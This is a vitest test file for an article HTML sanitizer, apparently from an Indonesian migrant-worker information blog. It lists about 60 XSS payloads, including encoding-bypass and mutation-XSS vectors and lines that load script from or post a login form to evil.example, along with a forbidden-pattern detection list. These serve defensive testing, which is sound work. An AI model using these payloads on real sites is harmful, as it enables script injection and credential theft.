import { describe, expect, it } from 'vitest';
import { articleSanitizeOptions, sanitizeArticleHtml } from '../../src/lib/sanitize';

const YOUTUBE_EMBED = /^https:\/\/www\.youtube(-nocookie)?\.com\/embed\//;

interface ParsedTag {
  name: string;
  closing: boolean;
  attrs: Record<string, string>;
}

/** Reads every tag of sanitizer output, which is always `<name attr="value" flag>` or `</name>`. */
function tagsOf(html: string): ParsedTag[] {
  const tags: ParsedTag[] = [];
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    const match = /^<(\/?)([a-z][a-z0-9]*)((?:\s[^\s"'=<>/]+(?:="[^"<>]*")?)*)\s*\/?>$/.exec(tag);
    if (!match) throw new Error(`Unexpected tag syntax: ${tag}`);
    const attrs: Record<string, string> = {};
    for (const [, attr, value] of match[3]!.matchAll(/\s([^\s"'=<>/]+)(?:="([^"]*)")?/g)) {
      attrs[attr!] = value ?? '';
    }
    tags.push({ name: match[2]!, closing: match[1] === '/', attrs });
  }
  return tags;
}

const FORBIDDEN = [
  /<script/i,
  /<[^>]+\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /<style/i,
  /style=/i,
  /<form/i,
  /<svg/i,
  /<math/i,
  /<object/i,
  /<embed/i,
  /<meta/i,
  /<base/i,
  /<link/i,
];

const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="x" ONERROR="alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<IMG SRC="jav&#x0D;ascript:alert(1);">',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="javas<!-- -->cript:alert(1)">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="http://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example/"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>',
  '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(javascript:alert(1))">overlay</div>',
  '<p style="display:none">hidden</p>',
  '<object data="https://evil.example/x.swf"></object>',
  '<object data="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name="pwd"><button formaction="javascript:alert(1)">Login</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)" onclick = "x">hover</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img srcset="javascript:alert(1) 1x, data:image/png;base64,AAAA 2x">',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<abbr title="</abbr><script>alert(1)</script>">x</abbr>',
  '<code class="language-js" onclick="alert(1)">x</code>',
];

describe('sanitizeArticleHtml: XSS payloads', () => {
  it('covers at least 30 payloads', () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(XSS_PAYLOADS)('neutralises %s', (payload) => {
    const out = sanitizeArticleHtml(payload);
    for (const pattern of FORBIDDEN) expect(out).not.toMatch(pattern);

    const allowedTags = articleSanitizeOptions.allowedTags as string[];
    const allowedAttributes = articleSanitizeOptions.allowedAttributes as Record<string, string[]>;
    for (const { name, closing, attrs } of tagsOf(out)) {
      expect(allowedTags).toContain(name);
      for (const attr of Object.keys(attrs)) {
        if (name === 'code' && attr === 'class') continue;
        expect(allowedAttributes[name] ?? []).toContain(attr);
      }
      if (name === 'iframe' && !closing) expect(attrs.src).toMatch(YOUTUBE_EMBED);
    }
    expect(sanitizeArticleHtml(out)).toBe(out);
  });
});

const YOUTUBE_PASTE =
  '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=abc" ' +
  'title="YouTube video player" frameborder="0" allow="autoplay; encrypted-media; picture-in-picture" ' +
  'referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>';

const LEGITIMATE: [name: string, input: string, expected: string][] = [
  [
    'headings',
    '<h2>Syarat</h2><h3>Dokumen</h3><h4>Paspor</h4><h5>Visa</h5><h6>Catatan</h6>',
    '<h2>Syarat</h2><h3>Dokumen</h3><h4>Paspor</h4><h5>Visa</h5><h6>Catatan</h6>',
  ],
  ['h1 becomes h2', '<h1>Judul</h1><p>Isi</p>', '<h2>Judul</h2><p>Isi</p>'],
  [
    'inline formatting',
    '<p>Paspor <strong>wajib</strong>, <em>visa</em> <b>b</b> <i>i</i> <u>u</u> <s>s</s> <small>k</small> H<sub>2</sub>O m<sup>2</sup> <mark>!</mark> <kbd>Ctrl</kbd> <abbr title="Alien Resident Certificate">ARC</abbr></p>',
    '<p>Paspor <strong>wajib</strong>, <em>visa</em> <b>b</b> <i>i</i> <u>u</u> <s>s</s> <small>k</small> H<sub>2</sub>O m<sup>2</sup> <mark>!</mark> <kbd>Ctrl</kbd> <abbr title="Alien Resident Certificate">ARC</abbr></p>',
  ],
  [
    'nested lists',
    '<ul><li>Satu<ol start="2" reversed type="a"><li>Dua</li><li>Tiga</li></ol></li><li>Empat</li></ul>',
    '<ul><li>Satu<ol start="2" reversed type="a"><li>Dua</li><li>Tiga</li></ol></li><li>Empat</li></ul>',
  ],
  [
    'blockquote and q with cite',
    '<blockquote cite="https://bp2mi.go.id/"><p>Lindungi PMI.</p><cite>BP2MI</cite></blockquote><p><q cite="/blog/x">kutipan</q></p>',
    '<blockquote cite="https://bp2mi.go.id/"><p>Lindungi PMI.</p><cite>BP2MI</cite></blockquote><p><q cite="/blog/x">kutipan</q></p>',
  ],
  [
    'table with thead, scope, spans and caption',
    '<table><caption>Biaya</caption><thead><tr><th scope="col">Negara</th><th scope="col">Biaya</th></tr></thead><tbody><tr><td>Taiwan</td><td colspan="2" rowspan="1">Rp 1.000</td></tr></tbody><tfoot><tr><th scope="row">Total</th><td>Rp 1.000</td></tr></tfoot></table>',
    '<table><caption>Biaya</caption><thead><tr><th scope="col">Negara</th><th scope="col">Biaya</th></tr></thead><tbody><tr><td>Taiwan</td><td colspan="2" rowspan="1">Rp 1.000</td></tr></tbody><tfoot><tr><th scope="row">Total</th><td>Rp 1.000</td></tr></tfoot></table>',
  ],
  [
    'pre > code.language-js keeps only the language class',
    '<pre><code class="hljs language-js">if (a &lt; b &amp;&amp; c) {}</code></pre>',
    '<pre><code class="language-js">if (a &lt; b &amp;&amp; c) {}</code></pre>',
  ],
  [
    'figure with img gains lazy loading',
    '<figure><img src="/images/arc.jpg" alt="Kartu ARC" width="800" height="450"><figcaption>Kartu ARC</figcaption></figure>',
    '<figure><img src="/images/arc.jpg" alt="Kartu ARC" width="800" height="450" loading="lazy" decoding="async" /><figcaption>Kartu ARC</figcaption></figure>',
  ],
  [
    'img keeps srcset, sizes and an explicit eager loading',
    '<img src="https://cdn.example/a.jpg" srcset="https://cdn.example/a.jpg 1x, https://cdn.example/a2.jpg 2x" sizes="100vw" alt="" loading="eager">',
    '<img src="https://cdn.example/a.jpg" srcset="https://cdn.example/a.jpg 1x, https://cdn.example/a2.jpg 2x" sizes="100vw" alt="" loading="eager" decoding="async" />',
  ],
  [
    'internal links get no target',
    '<p><a href="/blog/x" target="_blank">Baca</a> <a href="#kontak" title="Kontak">kontak</a> <a name="atas">atas</a></p>',
    '<p><a href="/blog/x">Baca</a> <a href="#kontak" title="Kontak">kontak</a> <a>atas</a></p>',
  ],
  [
    'external links open in a new tab without opener',
    '<a href="https://bp2mi.go.id/">BP2MI</a> <a href="http://x.example/" target="_self" rel="nofollow opener">x</a>',
    '<a href="https://bp2mi.go.id/" target="_blank" rel="noopener noreferrer">BP2MI</a> <a href="http://x.example/" target="_blank" rel="nofollow noopener noreferrer">x</a>',
  ],
  [
    'mailto and tel',
    '<a href="mailto:info@example.com">email</a> <a href="tel:+6281234567890">telepon</a>',
    '<a href="mailto:info@example.com">email</a> <a href="tel:+6281234567890">telepon</a>',
  ],
  [
    'YouTube embed',
    YOUTUBE_PASTE,
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=abc" title="YouTube video player" width="560" height="315" allow="autoplay; clipboard-write; encrypted-media; picture-in-picture; web-share" loading="lazy" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>',
  ],
  [
    'youtube-nocookie embed',
    '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/abc" allow="autoplay; clipboard-write; encrypted-media; picture-in-picture; web-share" loading="lazy" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>',
  ],
  [
    'details, definition lists, div/span without style, rules and breaks',
    '<details open><summary>FAQ</summary><dl><dt>ARC</dt><dd>Kartu <span style="color:red" class="x">izin</span></dd></dl></details><div id="a" style="display:none">Isi<br>baris<hr></div>',
    '<details open><summary>FAQ</summary><dl><dt>ARC</dt><dd>Kartu <span>izin</span></dd></dl></details><div>Isi<br />baris<hr /></div>',
  ],
  [
    'unknown tags are unwrapped, keeping their text',
    '<font color="red">Merah</font> <center>tengah</center> <custom-el>isi</custom-el>',
    'Merah tengah isi',
  ],
];

describe('sanitizeArticleHtml: legitimate markup', () => {
  it.each(LEGITIMATE)('%s', (_name, input, expected) => {
    expect(sanitizeArticleHtml(input)).toBe(expected);
  });

  it('drops images and iframes whose source was rejected', () => {
    expect(sanitizeArticleHtml('<p>a<img src="data:image/png;base64,AAAA" alt="x">b</p>')).toBe(
      '<p>ab</p>',
    );
    expect(sanitizeArticleHtml('<p>a<iframe src="https://vimeo.com/1"></iframe>b</p>')).toBe(
      '<p>ab</p>',
    );
  });

  it('drops protocol-relative links', () => {
    expect(sanitizeArticleHtml('<a href="//evil.example/">x</a>')).toBe('<a>x</a>');
  });
});

describe('sanitizeArticleHtml: what an author cannot choose', () => {
  it('drops name from links, so they cannot shadow names the page looks up (DOM clobbering)', () => {
    const out = sanitizeArticleHtml(
      '<a name="toastSettings" href="/blog/x">a</a><a NAME="links">b</a><a name="">c</a>',
    );
    expect(out).toBe('<a href="/blog/x">a</a><a>b</a><a>c</a>');
    expect(tagsOf(out).every(({ attrs }) => !('name' in attrs))).toBe(true);
  });

  it("pins a YouTube embed's allow, replacing the author's", () => {
    const pinned = 'autoplay; clipboard-write; encrypted-media; picture-in-picture; web-share';
    const hostile =
      '<iframe src="https://www.youtube.com/embed/x" ' +
      'allow="camera *; microphone *; geolocation *; clipboard-read *; display-capture; payment"></iframe>';
    const embeds = [hostile, '<iframe src="https://www.youtube-nocookie.com/embed/y"></iframe>'];
    for (const embed of embeds) {
      const [iframe] = tagsOf(sanitizeArticleHtml(embed));
      expect(iframe).toMatchObject({ name: 'iframe', attrs: { allow: pinned } });
    }
  });
});

describe('sanitizeArticleHtml: idempotence', () => {
  it('returns its own output unchanged on a long mixed sample', () => {
    const sample = [
      ...LEGITIMATE.map(([, input]) => input),
      ...XSS_PAYLOADS,
      '<p>Tanda &amp; simbol: &lt;tag&gt; &quot;kutip&quot; &copy; 5 &gt; 3</p>',
      '<p><b>tak <i>tertutup</p><table><p>salah tempat</p><tr><td>x</table>',
    ].join('\n');
    const once = sanitizeArticleHtml(sample);
    expect(once.length).toBeGreaterThan(1000);
    expect(sanitizeArticleHtml(once)).toBe(once);
  });
});
